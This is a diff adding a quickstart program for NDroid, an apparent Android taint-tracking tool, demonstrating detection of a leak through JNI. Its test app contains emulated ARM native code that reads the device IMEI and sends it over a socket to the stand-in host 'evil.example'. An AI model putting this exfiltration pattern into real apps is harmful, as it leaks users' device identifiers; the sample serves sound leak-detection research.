@@ -1,0 +1,91 @@
+// Quickstart: detect an information leak through JNI in three steps.
+//
+//   1. Build an emulated Android device.
+//   2. Attach NDroid.
+//   3. Load an app (Java bytecode + native library) and run it.
+//
+// The app below does what TaintDroid cannot see (paper case 2): Java reads
+// the IMEI and hands it to native code, which ships it out over a socket.
+#include <cstdio>
+
+#include "apps/native_lib_builder.h"
+#include "core/ndroid.h"
+
+using namespace ndroid;
+
+int main() {
+  // 1. The device: CPU, kernel, Dalvik VM, JNI, libc, Android framework.
+  android::Device device("com.example.quickstart");
+
+  // 2. NDroid, with default configuration (all four engines).
+  core::NDroid ndroid(device);
+
+  // 3a. The app's native library: void leak(JNIEnv*, jclass, jstring imei)
+  //     { p = GetStringUTFChars(imei); fd = socket(); connect(fd, "evil.example", 80);
+  //       send(fd, p, strlen(p)); }
+  apps::NativeLibBuilder lib(device, "libquickstart.so");
+  auto& a = lib.a();
+  using arm::LR;
+  using arm::PC;
+  using arm::R;
+  const GuestAddr host = lib.cstr("evil.example");
+  const GuestAddr fn_leak = lib.fn();
+  a.push({R(4), R(5), R(6), LR});
+  a.mov(R(4), R(0));                       // env
+  a.mov(R(1), R(2));                       // jstring
+  a.mov_imm(R(2), 0);
+  a.call(device.jni.fn("GetStringUTFChars"));
+  a.mov(R(5), R(0));                       // C string
+  a.mov_imm(R(0), 2);
+  a.mov_imm(R(1), 1);
+  a.mov_imm(R(2), 0);
+  a.call(device.libc.fn("socket"));
+  a.mov(R(6), R(0));                       // fd
+  a.mov_imm32(R(1), host);
+  a.mov_imm(R(2), 80);
+  a.call(device.libc.fn("connect"));
+  a.mov(R(0), R(5));
+  a.call(device.libc.fn("strlen"));
+  a.mov(R(2), R(0));                       // length
+  a.mov(R(0), R(6));
+  a.mov(R(1), R(5));
+  a.call(device.libc.fn("send"));
+  a.mov_imm(R(0), 0);
+  a.pop({R(4), R(5), R(6), PC});
+  lib.install();
+
+  // 3b. The app's Java side: leak(TelephonyManager.getDeviceId()).
+  auto& dvm = device.dvm;
+  dvm::ClassObject* app = dvm.define_class("Lcom/example/Quickstart;");
+  dvm::Method* leak = dvm.define_native(
+      app, "leak", "VL", dvm::kAccPublic | dvm::kAccStatic, fn_leak);
+  dvm::Method* get_imei =
+      device.framework.telephony->find_method("getDeviceId");
+  dvm::CodeBuilder cb;
+  cb.invoke(get_imei, {}).move_result(0).invoke(leak, {0}).return_void();
+  dvm::Method* main_method = dvm.define_method(
+      app, "main", "V", dvm::kAccPublic | dvm::kAccStatic, 1, cb.take());
+
+  // Run it.
+  dvm.call(*main_method, {});
+
+  // What left the device?
+  for (const auto& packet : device.kernel.network().packets()) {
+    std::printf("packet to %s: '%s'\n", packet.dest_host.c_str(),
+                packet.payload_str().c_str());
+  }
+  // What did NDroid see?
+  if (ndroid.leaks().empty()) {
+    std::printf("no leak detected (unexpected!)\n");
+    return 1;
+  }
+  for (const auto& leak_report : ndroid.leaks()) {
+    std::printf(
+        "LEAK: sink=%s destination=%s taint=0x%x data='%s'\n",
+        leak_report.sink.c_str(), leak_report.destination.c_str(),
+        leak_report.taint, leak_report.data.c_str());
+  }
+  std::printf("(TaintDroid alone would have missed this: its sinks are in "
+              "the Java context only.)\n");
+  return 0;
+}
